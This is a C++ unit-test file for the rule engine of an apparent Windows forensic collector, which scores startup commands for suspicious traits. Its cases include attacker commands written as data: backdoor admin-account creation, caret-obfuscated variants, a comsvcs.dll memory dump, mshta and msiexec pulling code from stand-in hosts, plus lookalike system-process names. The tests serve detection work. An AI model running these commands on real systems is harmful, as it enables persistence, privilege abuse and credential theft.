#include "collector/module/rules.h"

#include <gtest/gtest.h>

#include "collector/module/system_names.h"

namespace hozen {
namespace {

EvidencePath path_of(std::string_view text) {
  auto path = EvidencePath::parse(text);
  EXPECT_TRUE(path) << text;
  return path ? *path : EvidencePath{};
}

const EvidencePath& windows() {
  static const EvidencePath kWindows = path_of("C:\\Windows");
  return kWindows;
}

/// A command line whose program is `image`, there.
ResolvedCommand command_of(std::string_view image, std::string_view arguments = "") {
  ResolvedCommand command;
  command.image = image;
  command.arguments = arguments;
  command.expanded = std::string{image} + (arguments.empty() ? "" : " ") + std::string{arguments};
  if (auto path = EvidencePath::parse(image)) command.image_path = *path;
  command.image_existence = Existence::exists;
  return command;
}

ResolvedCommand hosted(std::string_view host, std::string_view payload, std::string_view kind) {
  const std::string folder =
      host == "powershell.exe" ? "System32\\WindowsPowerShell\\v1.0\\" : "System32\\";
  ResolvedCommand command = command_of("C:\\Windows\\" + folder + std::string{host}, payload);
  command.hosts.push_back({std::string{host}, command.image});
  command.payload = payload;
  command.payload_kind = kind;
  if (auto path = EvidencePath::parse(payload)) {
    command.payload_path = *path;
    command.payload_existence = Existence::exists;
  }
  return command;
}

/// "rule:weight" of every hit, in order, joined by spaces.
std::string hits_of(const RuleInput& input) {
  std::string text;
  for (const auto& hit : assess_command(input).hits)
    text += (text.empty() ? "" : " ") + hit.rule + ":" + std::to_string(hit.why.weight);
  return text;
}

std::string hits_of(const ResolvedCommand& command) {
  RuleInput input;
  input.command = &command;
  input.windows = windows();
  return hits_of(input);
}

TEST(Rules, OrdinaryProgramsScoreNothing) {
  for (const auto* image :
       {"C:\\Windows\\System32\\SecurityHealthSystray.exe", "C:\\Windows\\explorer.exe",
        "C:\\Program Files\\Vendor\\agent.exe", "C:\\Program Files (x86)\\Vendor\\agent.exe",
        "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18\\MsMpEng.exe"})
    EXPECT_EQ(hits_of(command_of(image)), "") << image;
}

struct WritableCase {
  const char* path;
  bool writable;
};

TEST(WritableLocation, KnowsFoldersUsersCanWriteTo) {
  const WritableCase cases[] = {
      {"D:\\Windows\\System32\\a.dll", true},
      {"D:\\Program Files\\Vendor\\a.exe", true},
      {"C:\\Users\\bob\\AppData\\Local\\Temp\\a.exe", true},
      {"C:\\Users\\bob\\Downloads\\a.exe", true},
      {"C:\\Users\\Public\\a.exe", true},
      {"C:\\Documents and Settings\\bob\\Local Settings\\a.exe", true},
      {"C:\\Documents and Settings\\All Users\\Application Data\\a.exe", true},
      {"C:\\ProgramData\\a.exe", true},
      {"C:\\ProgramData\\Vendor\\a.exe", true},
      {"C:\\ProgramData\\Vendor\\Product\\a.exe", false},
      {"C:\\Windows\\Temp\\a.exe", true},
      {"C:\\windows\\TASKS\\a.exe", true},
      {"C:\\Windows\\System32\\spool\\drivers\\color\\a.exe", true},
      {"C:\\Windows\\System32\\spool\\a.exe", false},
      {"C:\\PerfLogs\\a.exe", true},
      {"C:\\TMP\\p.exe", true},
      {"C:\\a.exe", true},
      {"D:\\Tools\\a.exe", true},
      {"D:\\Program Files\\Tools\\a.exe", true},
      {"C:\\$Recycle.Bin\\S-1-5-21-1\\a.exe", true},
      {"C:\\Windows\\System32\\a.exe", false},
      {"C:\\Program Files\\Vendor\\a.exe", false},
  };
  for (const auto& [path, writable] : cases)
    EXPECT_EQ(writable_because(path_of(path), windows()).has_value(), writable) << path;
}

TEST(WritableLocation, AloneScoresLowAndWaitsForTheSignature) {
  const ResolvedCommand command = command_of("C:\\Users\\bob\\AppData\\Local\\Teams\\Update.exe");
  RuleInput input;
  input.command = &command;
  input.windows = windows();
  const auto assessment = assess_command(input);
  ASSERT_EQ(assessment.hits.size(), 1u);
  EXPECT_EQ(assessment.hits[0].why.weight, 15);
  EXPECT_TRUE(assessment.hits[0].innocent_unchecked);
  EXPECT_FALSE(assessment.not_checked.empty());
}

TEST(WritableLocation, LooksAtThePayloadOfAHost) {
  EXPECT_EQ(hits_of(hosted("cmd.exe", "C:\\TMP\\run.bat", "script")), "writable_location:15");
}

TEST(MissingTarget, ScoresMoreWhenTheEntryIsRecent) {
  ResolvedCommand command = command_of("C:\\Program Files\\Gone\\gone.exe");
  command.image_existence = Existence::missing;
  RuleInput input;
  input.command = &command;
  input.windows = windows();
  input.reference_time = *parse_iso8601("2024-03-31T00:00:00Z");
  input.written = *parse_iso8601("2024-03-01T00:00:00Z");
  EXPECT_EQ(hits_of(input), "missing_target:25");
  input.written = *parse_iso8601("2024-02-29T23:59:59Z");
  EXPECT_EQ(hits_of(input), "missing_target:10");
  command.image_existence = Existence::unknown;
  EXPECT_EQ(hits_of(input), "");
}

TEST(SystemNames, ElsewhereIsAFinding) {
  EXPECT_EQ(hits_of(command_of("C:\\Windows\\svchost.exe")), "system_name_elsewhere:40");
  EXPECT_EQ(hits_of(command_of("C:\\Program Files\\x\\LSASS.EXE")), "system_name_elsewhere:40");
  for (const auto* legal :
       {"C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\SysWOW64\\rundll32.exe",
        "C:\\Windows\\WinSxS\\x_1\\cmd.exe", "C:\\Windows.old\\Windows\\System32\\cmd.exe",
        "C:\\Windows\\notepad.exe", "C:\\Windows\\regedit.exe",
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"})
    EXPECT_EQ(hits_of(command_of(legal)), "") << legal;
}

TEST(SystemNames, ElsewhereIsSaidOfAPlaceThatTheEntryNamesOrAFileThatIsThere) {
  ResolvedCommand named = command_of("C:\\Users\\Public\\svchost.exe", "-k x");
  named.image_existence = Existence::unknown;  // a source of hives alone
  EXPECT_NE(hits_of(named).find("system_name_elsewhere:40"), std::string::npos);
  named.expanded = "c:/users/public/SVCHOST -k x";
  EXPECT_NE(hits_of(named).find("system_name_elsewhere:40"), std::string::npos);
  // Looked for where a policy keeps its scripts; it is not there.
  ResolvedCommand looked_for = command_of("C:\\Windows\\Scripts\\powershell.exe", "-File x.ps1");
  looked_for.expanded = "powershell.exe -File x.ps1";
  looked_for.image_existence = Existence::unknown;
  EXPECT_EQ(hits_of(looked_for).find("system_name_elsewhere"), std::string::npos);
  looked_for.image_existence = Existence::exists;
  EXPECT_NE(hits_of(looked_for).find("system_name_elsewhere:40"), std::string::npos);
}

TEST(SystemNames, FindsImitations) {
  const std::pair<const char*, const char*> imitations[] = {
      {"rund1132.exe", "rundll32.exe"},     {"svchdst.exe", "svchost.exe"},
      {"winlogan.exe", "winlogon.exe"},     {"taskhast.exe", "taskhost.exe"},
      {"scvhost.exe", "svchost.exe"},       {"lsasss.exe", "lsass.exe"},
      {"SVCH0ST.exe", "svchost.exe"},       {"exp1orer.exe", "explorer.exe"},
      {"\u0435xplorer.exe", "explorer.exe"}};
  for (const auto& [name, imitated] : imitations)
    EXPECT_EQ(imitated_system_name(name).value_or("none"), imitated) << name;
  for (const auto* honest :
       {"svchost.exe", "taskhostex.exe", "service.exe", "iexplore.exe", "notepad++.exe", "cmd.exe",
        "cad.exe", "teams.exe", "onedrive.exe", "csrsm.dll", "", ".exe", "a"})
    EXPECT_FALSE(imitated_system_name(honest)) << honest;
}

TEST(DeceptiveName, SaysWhatIsDeceptive) {
  for (const auto* name : {"invoice.pdf.exe", "a\u202Egpj.exe", "b\u200Bc.exe", "svchost.exe ",
                           "run.", "photo.jpg      .scr"})
    EXPECT_TRUE(deceptive_name(name)) << name;
  for (const auto* name :
       {"setup.1.2.exe", "a.pdf", "", ".", "node.js", "my.app.exe", "jquery.min.js"})
    EXPECT_FALSE(deceptive_name(name)) << name;
}

TEST(ProxyExecution, NamesTheTechniqueOfTheHost) {
  const auto command = hosted("regsvr32.exe", "C:\\Program Files\\V\\x.dll", "dll");
  RuleInput input;
  input.command = &command;
  input.windows = windows();
  const auto hits = assess_command(input).hits;
  ASSERT_EQ(hits.size(), 1u);
  EXPECT_EQ(hits[0].rule, "proxy_execution");
  EXPECT_EQ(hits[0].attack, "T1218.010");
  EXPECT_EQ(hits[0].why.weight, 20);
}

TEST(ProxyExecution, WindowsOwnLibrariesAndPackagesAreOrdinary) {
  EXPECT_EQ(hits_of(hosted("rundll32.exe", "C:\\Windows\\System32\\NvCpl.dll", "dll")), "");
  EXPECT_EQ(hits_of(hosted("msiexec.exe", "C:\\Program Files\\V\\x.msi", "document")), "");
  EXPECT_EQ(hits_of(command_of("C:\\Windows\\System32\\rundll32.exe")), "");
  EXPECT_EQ(hits_of(hosted("msiexec.exe", "http://x.example/a.msi", "url")),
            "proxy_execution:20 remote_target:25");
}

TEST(ProxyExecution, AProgramOfWindowsWithoutResolverSupportCounts) {
  EXPECT_EQ(hits_of(command_of("C:\\Windows\\System32\\certutil.exe", "-decode a b")),
            "proxy_execution:20");
}

TEST(ProxyExecution, ArgumentsAreSaidOfTheProgramThatTheyAreGivenTo) {
  ResolvedCommand command =
      command_of("C:\\Windows\\System32\\wbem\\WMIC.exe", "process call create \"powershell\"");
  command.hosts = {{"wmic.exe", command.image}, {"powershell.exe", ""}};
  RuleInput input;
  input.command = &command;
  input.windows = windows();
  const auto hits = assess_command(input).hits;
  ASSERT_EQ(hits.size(), 1u);
  EXPECT_EQ(hits[0].why.fact, "'wmic.exe' is told to run 'process call create \"powershell\"'.");
  EXPECT_EQ(hits[0].attack, "T1059.001");
}

TEST(PowershellEvasion, EachGroupAddsUpToTheCap) {
  auto command = hosted("powershell.exe", "IEX (…)", "inline");
  command.flags = {"hidden_window"};
  EXPECT_EQ(hits_of(command), "proxy_execution:20 powershell_evasion:30");
  command.flags = {"hidden_window", "no_profile"};
  EXPECT_EQ(hits_of(command), "proxy_execution:20 powershell_evasion:35");
  command.flags = {"hidden_window",           "no_profile",         "download",
                   "execution_policy_bypass", "encoded_powershell", "obfuscated"};
  EXPECT_EQ(hits_of(command), "proxy_execution:20 powershell_evasion:45");
}

TEST(PowershellEvasion, IsAboutPowershellOnly) {
  auto command = hosted("cmd.exe", "echo x", "inline");
  command.flags = {"download"};
  EXPECT_EQ(hits_of(command), "");
}

TEST(ObfuscatedCommand, IsAboutTheShellAndSaidOnce) {
  auto command = hosted("cmd.exe", "echo x", "inline");
  EXPECT_EQ(hits_of(command), "");
  command.flags = {"obfuscated"};
  EXPECT_EQ(hits_of(command), "obfuscated_command:30");
  command.hosts.push_back({"powershell.exe", ""});
  EXPECT_EQ(hits_of(command), "proxy_execution:20 powershell_evasion:30");
}

TEST(Accounts, AreFoundHoweverTheCommandIsWritten) {
  struct {
    const char* line;
    const char* hits;
  } const cases[] = {
      {"cmd.exe /c net user evil P@ss1 /add", "account_added:45"},
      {"C:\\Windows\\System32\\NET1.EXE users /ADD evil x", "account_added:45"},
      {"cmd /c n^et us^er evil x /a^dd", "account_added:45"},
      {"net user evil x /add /domain", "account_added:45"},
      {"cmd /c net user evil x /add&net localgroup \"Administrators\" evil /add",
       "account_added:45 account_rights:45"},
      {"net group \"Domain Admins\" evil /add /domain", "account_rights:45"},
      {"net user guest /active:yes", "account_rights:45"},
      {"Start-Process net -ArgumentList 'user','evil','x','/add'", "account_added:45"},
      {"New-LocalUser evil -NoPassword; Add-LocalGroupMember Administrators evil",
       "account_added:45 account_rights:45"},
      {"net user", ""},
      {"net user evil /delete", ""},
      {"net user evil & C:\\Windows\\x.exe /add", ""},
      {"net use X: \\\\.\\share /add", ""},
      {"net start user /add", ""},
      {"C:\\Windows\\internet.exe user x /add", ""},
      {"Get-LocalUser", ""},
      {"net", ""},
      {"", ""},
  };
  for (const auto& one : cases) {
    ResolvedCommand command = command_of("C:\\Windows\\System32\\a.exe");
    command.expanded = one.line;
    EXPECT_EQ(hits_of(command), one.hits) << one.line;
    command.expanded = "powershell.exe -enc x";
    command.decoded = one.line;
    EXPECT_EQ(hits_of(command), one.hits) << one.line;
  }
  // The name of the program stands in a variable that the shell replaced.
  ResolvedCommand command = hosted("cmd.exe", "C:\\Windows\\System32\\net.exe", "program");
  command.payload_arguments = "user evil x /add";
  EXPECT_EQ(hits_of(command), "account_added:45");
}

TEST(Accounts, NamesTheTechnique) {
  for (const auto& [line, attack] : {std::pair{"net user evil x /add", "T1136.001"},
                                     {"net user evil x /add /domain", "T1136.002"},
                                     {"net localgroup administrators evil /add", "T1098"}}) {
    const ResolvedCommand command =
        command_of("C:\\Windows\\System32\\net.exe", std::string_view{line}.substr(4));
    RuleInput input;
    input.command = &command;
    const auto hits = assess_command(input).hits;
    ASSERT_EQ(hits.size(), 1u) << line;
    EXPECT_EQ(hits[0].attack, attack);
  }
}

TEST(MemoryDump, IsAFinding) {
  auto command = hosted("rundll32.exe", "C:\\Windows\\System32\\comsvcs.dll", "dll");
  EXPECT_EQ(hits_of(command), "");
  command.flags = {"memory_dump"};
  EXPECT_EQ(hits_of(command), "memory_dump:45");
}

TEST(RemoteTarget, FindsSharesAndAddresses) {
  EXPECT_EQ(remote_target("C:\\TMP\\p.exe -s \\\\10.34.2.3 'net user'").value_or(""),
            "\\\\10.34.2.3");
  EXPECT_EQ(remote_target("mshta HTTP://evil.example/a.hta x").value_or(""),
            "HTTP://evil.example/a.hta");
  EXPECT_EQ(remote_target("\"\\\\srv\\share\\a b.exe\"").value_or(""), "\\\\srv\\share\\a");
  for (const auto* share :
       {"\\\\?\\UNC\\10.0.0.5\\s\\e.dll,X", "x \\??\\unc\\10.0.0.5\\s\\e.dll y",
        "\\\\.\\UNC\\10.0.0.5\\s\\e.dll", "\\\\?\\GLOBALROOT\\Device\\Mup\\10.0.0.5\\s\\e.dll"})
    EXPECT_EQ(remote_target(share).value_or(""), "\\\\10.0.0.5\\s\\e.dll") << share;
  for (const auto* local : {"C:\\a\\b.exe", "\\\\?\\C:\\a.exe", "\\\\.\\pipe\\x", "C:\\a\\\\b.exe",
                            "\\\\", "\\\\?\\UNC\\", "C:\\UNC\\a.exe", ""})
    EXPECT_FALSE(remote_target(local)) << local;
  for (const char* own : {"\\\\localhost\\C$\\Users\\Public\\x.exe", "\\\\127.0.0.1\\C$\\x.exe",
                          "\\\\?\\UNC\\LOCALHOST\\c$\\x", "http://localhost:8080/a",
                          "https://user:pw@127.0.0.1/a", "http://[::1]:80/", "\\\\127.5.0.1@80\\d"})
    EXPECT_FALSE(remote_target(own)) << own;
  for (const char* other : {"http://localhost@evil.example/a", "http://127.0.0.1.evil.example/a",
                            "\\\\localhost.evil.example\\c$\\x", "\\\\evil@127.0.0.1\\d",
                            "http://localhost/a http://evil.example/b",
                            "\\\\?\\UNC\\localhost\\c$\\x \\\\?\\UNC\\evil\\c$\\x"})
    EXPECT_TRUE(remote_target(other)) << other;
}

TEST(AlternateStream, IsAFinding) {
  EXPECT_EQ(hits_of(command_of("C:\\Program Files\\V\\a.txt:run.exe")), "alternate_stream:40");
}

TEST(DataFileExecuted, AnInterpreterWithADataExtension) {
  EXPECT_EQ(hits_of(hosted("rundll32.exe", "C:\\Program Files\\V\\cache.DAT", "dll")),
            "proxy_execution:20 data_file_executed:25");
  EXPECT_EQ(hits_of(hosted("rundll32.exe", "C:\\Program Files\\V\\x.dll", "dll")),
            "proxy_execution:20");
}

TEST(UnquotedPath, CountsOnlyWhenSomethingLiesThere) {
  auto command = command_of("C:\\Program Files\\A B\\c.exe");
  command.earlier_candidates = {{"C:\\Program.exe", Existence::missing}};
  EXPECT_EQ(hits_of(command), "");
  command.earlier_candidates = {{"C:\\Program.exe", Existence::exists}};
  EXPECT_EQ(hits_of(command), "unquoted_path_taken:60");
}

TEST(TargetFile, HiddenSystemFilesOfUsersAndTimesSetBack) {
  const auto command = command_of("C:\\Users\\bob\\AppData\\a.exe");
  FileInfo file;
  file.path = *command.image_path;
  RuleInput input;
  input.command = &command;
  input.file = &file;
  input.windows = windows();
  file.attributes = kAttributeHidden;
  EXPECT_EQ(hits_of(input), "writable_location:15");
  file.attributes = kAttributeHidden | kAttributeSystem;
  EXPECT_EQ(hits_of(input), "writable_location:15 hidden_file:15");
  file.attributes = {};
  file.si.created = *parse_iso8601("2010-01-01T00:00:00Z");
  file.fn = Times{*parse_iso8601("2024-01-01T00:00:00Z"), {}, {}, {}};
  EXPECT_EQ(hits_of(input), "writable_location:15 time_stomped:20");
  file.si.created = *parse_iso8601("2010-01-01T00:00:00.5Z");
  EXPECT_EQ(hits_of(input), "writable_location:15");
}

}  // namespace
}  // namespace hozen
